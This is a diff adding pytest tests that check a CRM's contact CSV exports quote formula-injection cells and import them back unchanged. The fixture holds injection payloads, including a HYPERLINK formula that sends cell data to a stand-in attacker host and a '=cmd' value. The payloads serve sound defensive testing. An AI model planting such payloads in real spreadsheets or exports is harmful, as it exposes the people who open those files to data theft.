@@ -96,3 +96,44 @@ def test_an_export_reads_every_chunk_in_the_same_statements_with_tags_in_the_row
         rows = rows_of(contacts_csv_response(Contact.objects.all()))
     assert len(rows) == 9 and {row["Tags"] for row in rows[2:]} == {"vip"}
     assert [row["Company"] for row in rows[2:]] == [f"Co {index}" for index in range(7)]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def formula_contact():
+    return ContactFactory(email="eve@example.com", first_name=FORMULA, last_name="+1+1", job_title="-2+3",
+                          city="@SUM(A1)", phone="\t=1", custom_fields={"note": "\r=cmd"},
+                          tags=[TagFactory(name="=tag")])
+
+
+def assert_no_formula(rows: list[dict]) -> None:
+    [row] = [r for r in rows if r["Email"] == "eve@example.com"]
+    assert (row["First Name"], row["Last Name"], row["Job Title"], row["City"], row["Phone"], row["custom:note"],
+            row["Tags"]) == ("'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=cmd", "'=tag")
+    every_cell = [cell for r in rows for cell in r.values()]
+    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_formula_cells_are_quoted_in_every_export(formula_contact, api_as, client, make_user, tmp_path):
+    assert_no_formula(rows_of(contacts_csv_response(Contact.objects.all())))
+    assert_no_formula(rows_of(api_as("Analyst").get("/api/exports/contacts/")))
+    client.force_login(make_user("mara", role="Marketer"))
+    assert_no_formula(rows_of(client.get("/contacts/export/")))
+    client.force_login(make_user("boss", is_staff=True, is_superuser=True))
+    assert_no_formula(rows_of(client.post("/admin/crm/contact/", {"action": "export_contacts",
+                                                                    "_selected_action": [formula_contact.pk]})))
+    target = tmp_path / "out.csv"
+    call_command("export_contacts", str(target))
+    assert_no_formula(list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig")))))
+
+
+def test_a_quoted_formula_imports_back_as_the_value_it_was(formula_contact):
+    text = b"".join(contacts_csv_response(Contact.objects.all()).streaming_content)
+    Contact.objects.all().delete()
+    run = import_run_start(run=import_run_create(upload=ContentFile(text, name="back.csv")), background=False)
+    assert run.created_count == 1 and run.failed_count == 0
+    eve = Contact.objects.get()
+    assert (eve.first_name, eve.last_name, eve.job_title, eve.city) == (FORMULA, "+1+1", "-2+3", "@SUM(A1)")
+    assert eve.custom_fields == {"note": "\r=cmd"}
